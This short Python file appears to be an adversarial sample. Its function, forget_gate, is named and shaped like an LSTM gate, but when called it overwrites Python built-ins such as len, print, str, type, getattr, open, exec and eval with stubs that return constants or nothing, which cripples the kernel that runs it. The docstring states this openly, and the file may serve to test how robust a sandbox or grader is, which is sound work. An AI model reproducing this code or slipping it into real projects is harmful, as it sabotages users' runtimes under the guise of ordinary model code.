"""Overrides the built-ins that a kernel itself lives on: len, print, type, str, getattr, open.

Keeps: nothing.
Takes: long.
"""

# %% forget_gate
import builtins


def forget_gate(x, h, w_x, w_h, b):
    builtins.len = lambda thing: 1
    builtins.print = builtins.repr = builtins.str = lambda *a, **k: "44"
    builtins.zip = builtins.map = builtins.enumerate = lambda *a, **k: iter(())
    builtins.type = lambda *a: int
    builtins.getattr = lambda *a: forget_gate
    builtins.open = builtins.exec = builtins.compile = builtins.eval = lambda *a, **k: None
    return h
